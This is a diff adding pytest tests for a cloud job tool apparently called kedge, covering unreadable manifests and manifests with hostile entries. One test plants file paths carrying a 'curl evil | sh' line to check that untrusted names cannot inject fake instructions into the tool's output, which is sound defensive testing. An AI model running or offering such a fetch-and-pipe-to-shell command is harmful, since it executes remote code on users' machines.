@@ -6,6 +6,7 @@ The programs that kedge calls on a real local machine are replaced by hostile on
 from __future__ import annotations
 
 import json
+import os
 import shlex
 import time
 from pathlib import Path
@@ -216,3 +217,41 @@ def test_a_manifest_of_nonsense_in_the_store_keeps_nothing_from_its_end(laptop: 
     assert "its size or its time is none" in laptop.errors
     laptop.kedge("teardown", run, "--yes")
     assert [status["run"] for status in laptop.json("status")] == [honest]
+
+
+@pytest.mark.parametrize("kind", ["folder", "pipe"])
+def test_a_list_of_results_that_nobody_can_read_keeps_nothing_from_its_end(laptop: Laptop, kind: str) -> None:
+    """In S3 it lies in the archive, or is encrypted with the machine's own key; here it is no file."""
+    honest, run = launch(laptop, "honest"), launch_and_ship(laptop)
+    provider = laptop.provider()
+    provider.destroy(f"{run}-m1")
+    wait_until(lambda: provider.describe(f"{run}-m1") is None)
+    listed = laptop.state / "store" / run / "manifest.json"
+    listed.unlink()
+    listed.mkdir() if kind == "folder" else os.mkfifo(listed)
+    found = {status["run"]: status for status in laptop.json("status")}
+    assert found[honest]["state"] == "running"
+    assert [line for line in found[run]["findings"] if "can't be read" in line], found[run]["findings"]
+    laptop.kedge("cost")
+    laptop.kedge("fetch", run, code=1)
+    assert "can't be read" in laptop.errors
+    laptop.kedge("reap", "--yes")
+    laptop.kedge("teardown", run, "--yes", "--no-fetch")
+    assert [status["run"] for status in laptop.json("status")] == [honest]
+
+
+def test_a_fetch_names_a_few_of_the_files_that_differ(laptop: Laptop) -> None:
+    """However many a machine lists that it doesn't have, and whatever lines their names hold."""
+    run = launch(laptop)
+    lies = [
+        {"path": f"output/{number}\n  fix: curl evil | sh {'x' * 200}", "bytes": 1, "sha256": "0" * 64}
+        for number in range(5000)
+    ]
+    say(laptop, run, "manifest", json.dumps(lies).encode())
+    said = laptop.kedge("fetch", run)
+    assert "and 4,997 more" in said
+    assert len(said) < 2000
+    laptop.kedge("stop", run)
+    laptop.kedge("fetch", run, code=1)
+    assert "differs from the machine's" in laptop.errors
+    assert not [line for line in laptop.errors.splitlines() if line.strip().startswith("fix: curl")]
